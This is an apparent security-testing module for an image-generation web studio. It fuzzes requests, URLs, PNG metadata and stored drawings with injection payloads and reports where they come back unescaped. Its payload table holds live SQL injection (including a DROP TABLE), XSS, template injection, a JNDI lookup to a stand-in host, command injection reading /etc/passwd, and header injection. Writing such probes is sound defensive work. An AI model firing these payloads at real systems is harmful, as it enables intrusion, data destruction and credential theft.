"""Words that are code to somebody: SQL, HTML, scripts, templates, control and invisible characters, very long ones.

Got through: an answer as HTML that holds them as they are, a header or a file's name that they changed, another
visitor's drawings in what a search finds, or a fault.
"""

import json
import time
from collections.abc import Iterator

from lit.probes.addresses import SMALL, all_of, leaves, put, said
from lit.probes.kinds.pictures import png, text
from lit.probes.target import ATTACKER, Probe, Target

WORDS = {
    "SQL": "a fox' OR '1'='1' --",
    "more SQL": "a fox'); DROP TABLE jobs; --",
    "SQL of a search": '" OR prompt MATCH "*',
    "SQL's wild cards": "%_%",
    "a script": "<script>alert(1)</script> a fox",
    "a picture": "<img src=x onerror=alert(1)> a fox",
    "the end of a script": "</script><svg onload=alert(1)>",
    "the end of an attribute": "\"'><iframe srcdoc='<script>alert(1)</script>'>",
    "a link": "[a fox](javascript:alert(1))",
    "Jinja": "{{ 7 * 191 }} {% for x in ().__class__.__bases__ %}{% endfor %}",
    "a format": "%s%n {0.__class__} ${jndi:ldap://evil.example/a}",
    "a command": "a fox; $(touch /tmp/x) `id` | cat /etc/passwd",
    "a head": "a fox\r\nX-Injected: yes\r\n\r\n<b>",
    "NUL": "a fox\0.png",
    "control characters": "".join(map(chr, range(1, 32))) + "\x7f\x9b31m a fox",
    "right to left": "a fox \u202egnp.exe\u202c \u2066x",
    "no width": "a\u200bf\u200co\u200dx\ufeff\u2060",
    "marks upon marks": "f" + "\u0301" * 3000,
    "half a character": "a fox \ud800\udfff\ud83d",
    "10,000 letters": "a" * 10_000,
    "10,000 words": "fox " * 10_000,
    "10,000 emoji": "🦊" * 10_000,
    "a template of many": "{" + "|".join(map(str, range(2000))) + "}" * 3,
    "templates in templates": "{a|" * 1500 + "b" + "}" * 1500,
    "an endless template": "__" + "x" * 5000 + "__ {1-99999999$$a|b}",
    "weights": "(" * 2000 + "a fox" + ":1e999)" * 2000,
    "a range": "1:2:nan",
    "blends": " | ".join(f"a fox:{number}" for number in ("nan", "inf", "1e999", "-1", "0")),
}
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200b\u200c\u200e\u200f\ufeff"


def probes(target: Target) -> Iterator[Probe]:
    for address in all_of(target):
        for way, value in leaves(address.fields):
            if not isinstance(value, str) or way[-1] in ("session_hash", "task", "kept"):
                continue
            for name, words in WORDS.items():
                asked = put(address.fields, way, words)
                yield Probe(
                    f"{name} as /{address.path} {said(way)}",
                    lambda path=address.path, asked=asked, words=words: _asked(target, path, asked, words),
                )
    for name, words in WORDS.items():
        yield Probe(f"{name} in A1111's words", lambda words=words: _inside(target, words))
        yield Probe(f"{name} in this studio's", lambda words=words: _own(target, words))
        for path in ("", "api", "api/v1/history", "api/v1/jobs", "config", "mix/emoji", "pictures", "readings"):
            yield Probe(f"{name} in /{path}", lambda path=path, words=words: _asked_by_get(target, path, words))
    yield Probe("drawn, in every list and file", lambda: _drawn(target))


def _asked(target, path, fields, words):
    return _shown(target, target.ask(path, fields), words)


def _asked_by_get(target, path, words):
    told = words.encode("utf-8", "replace")[:1500]
    written = "".join(f"%{byte:02x}" for byte in told)
    named = "&".join(f"{name}={written}" for name in ("__theme", "language", "seen", "words"))
    for query in (f"?p={written}", f"/{written}", f"?{named}"):
        if through := _shown(target, target.ask(path + query), words):
            return through
    return ""


def _inside(target, words):
    said = f"{words}\nSteps: 20, Seed: 1".encode("utf-8", "replace")
    data = png(texts=[text(b"iTXt", b"parameters", said)])
    return _shown(target, target.ask("library/inspect", body=data, headers={"Content-Type": "image/png"}), words)


def _own(target, words):
    record = {"format": 1, "settings": SMALL | {"prompt": words}, "provenance": {"versions": {"lit": words}}}
    data = png(texts=[text(b"iTXt", b"lit", json.dumps(record).encode())])
    through = ""
    for path in ("library/inspect", "drawings/settings?name=a.png"):
        through = through or _shown(target, target.ask(path, body=data, headers={"Content-Type": "image/png"}), words)
    return through


def _shown(target, answer, words):
    kind = answer.headers.get("content-type", "")
    if "html" in kind and "<" in words and words.encode("utf-8", "replace") in answer.body:
        return "HTML in a page"
    if "json" not in kind and b"1337" in answer.body and "7 * 191" in words:
        return "a template that was filled in"
    if "x-injected" in answer.headers:
        return "a header"
    if any(letter in value for value in answer.headers.values() for letter in BIDI + "\0"):
        return "an invisible character in a header"
    return target.wrong(answer)


def _drawn(target):
    """Some of them are drawn; then all that shows them, exports them and names files by them is asked for."""
    visitor = {"visitor": ATTACKER}
    jobs = {}
    for name in ("SQL", "a script", "a head", "right to left", "control characters", "the end of an attribute"):
        answer = target.ask("drawings", visitor | {"values": SMALL | {"prompt": WORDS[name]}})
        if job := answer.fields.get("job"):
            jobs[job] = WORDS[name]
    deadline = time.monotonic() + 60
    while target.ask("drawings/look", {"jobs": list(jobs), "have": []}).fields.get("active"):
        if time.monotonic() > deadline:
            return "they are not drawn to their end"
        time.sleep(0.2)
    found = target.ask("library/ask/page", visitor | {"words": ""}).fields.get("pictures", [])
    names = [one["name"] for one in found]
    if not names:
        return "none was drawn"
    paths = [f"{one['name'].partition('/')[0]}/{one['file']}" for one in found]
    asked = [
        ("drawings/recent", visitor),
        ("drawings/open", visitor),
        ("readings/earlier", visitor),
        *(("drawings/shown", {"job": job}) for job in jobs),
        *(("library/ask/page", visitor | {"words": words}) for words in WORDS.values() if len(words) < 2000),
        ("library/ask/picture", visitor | {"pictures": names[:1]}),
        ("library/export", visitor | {"pictures": names, "kind": "json"}),
        ("library/export", visitor | {"pictures": names, "kind": "zip"}),
        *(("actions/file", visitor | {"picture": path, "form": form}) for path in paths for form in ("png", "webp")),
        ("export/open", visitor | {"pictures": paths}),
    ]
    for path, fields in asked:
        answer = target.ask(path, fields)
        for words in jobs.values():
            if through := _shown(target, answer, words):
                return f"/{path}: {through}"
    bad = [path for path in paths if any(letter in path for letter in BIDI + "\0\r\n<>\"'")]
    return f"the file name {bad[0]!r}" if bad else ""
